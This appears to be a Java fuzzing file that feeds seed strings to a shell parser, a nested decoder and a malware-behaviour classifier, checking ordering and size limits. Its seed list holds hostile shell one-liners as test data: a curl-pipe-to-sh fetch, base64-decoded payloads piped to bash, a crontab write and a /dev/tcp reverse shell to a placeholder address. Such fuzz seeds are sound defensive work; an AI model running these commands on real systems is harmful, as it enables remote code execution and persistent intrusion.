package davy.range.fuzz;

import static davy.range.fuzz.Target.check;
import static davy.range.fuzz.Target.same;

import davy.core.shell.Behaviour;
import davy.core.shell.Decode;
import davy.core.shell.Script;
import davy.core.shell.Shell;
import davy.core.text.RawText;
import java.util.List;

/// Shell text, and the texts inside it.
@SuppressWarnings("StringConcatToTextBlock") // seeds are short
final class ShellTargets {
    private static final String[] SEEDS = {
        "curl -fsSL http://198.51.100.7/x | sh",
        "echo aWQK | base64 -d | bash; for x in a b; do f \"$x\" >/dev/null 2>&1 & done",
        "a=$(cat <<EOF\n$b ${c:-d} `e`\nEOF\n); case $a in x*) y;; *) z;; esac",
        "f() { [[ $1 =~ a(b) ]] && eval \"$(printf '\\x69\\144')\"; }; f 'q'\\''r' $'\\n'",
        "python3 -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'; echo 6964 | xxd -r -p | sh",
        "(a; b) | { c; } >> /etc/crontab; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "echo H4sIAAAAAAAAA8tMAQBC3lcUAgAAAA== | base64 -d | gunzip | sh"
    };

    static final List<Target> ALL =
            List.of(
                    Target.of(
                            "shell",
                            "commands are numbered in order, their lines are those of the text,"
                                    + " pipes lead to commands, the same twice",
                            bytes -> shell(RawText.decode(bytes)),
                            SEEDS),
                    Target.of(
                            "shell-layers",
                            "256 layers of depth 8 at most, each with a parent before it",
                            bytes -> layers(RawText.decode(bytes)),
                            SEEDS),
                    Target.of(
                            "shell-behaviour",
                            "8 texts of 300 characters for a trait, 64 addresses at most",
                            bytes -> behaviour(RawText.decode(bytes)),
                            SEEDS));

    private ShellTargets() {}

    private static long shell(String text) {
        Script script = Shell.parse(text);
        long lines = text.chars().filter(c -> c == '\n').count() + 1;
        int index = 0;
        for (var command : script.commands()) {
            check(command.index() == index++, "commands are not in order");
            check(command.line() >= 1 && command.line() <= lines, "no line of the text");
            check(command.feeds() < script.commands().size(), "a pipe to nowhere");
            check(command.raw().length() <= 4096, "a command that is too long");
        }
        same(script, () -> Shell.parse(text));
        return (long) script.commands().size() + script.functions().size();
    }

    private static long layers(String text) {
        var layers = Decode.of(text).layers();
        check(layers.size() <= 257, "how many layers", layers.size());
        long size = 0;
        for (int i = 0; i < layers.size(); i++) {
            var layer = layers.get(i);
            check(layer.parent() < i && layer.depth() <= 8, "a layer out of place");
            size += layer.text().length();
        }
        check(size <= (1 << 20) + 2L * text.length(), "more than 1 MiB of layers");
        return layers.size();
    }

    private static long behaviour(String text) {
        var behaviour = Behaviour.of(text);
        for (var trait : behaviour.traits()) {
            var evidence = behaviour.evidence(trait);
            check(evidence.size() <= 8, "how many texts", evidence.size());
            for (String each : evidence) {
                check(each.length() <= 301, "length of a text", each.length());
            }
        }
        check(behaviour.urls().size() <= 64, "too many addresses");
        var _ = behaviour.isMalicious();
        return (long) behaviour.evidence().size() + behaviour.wallets().size();
    }
}
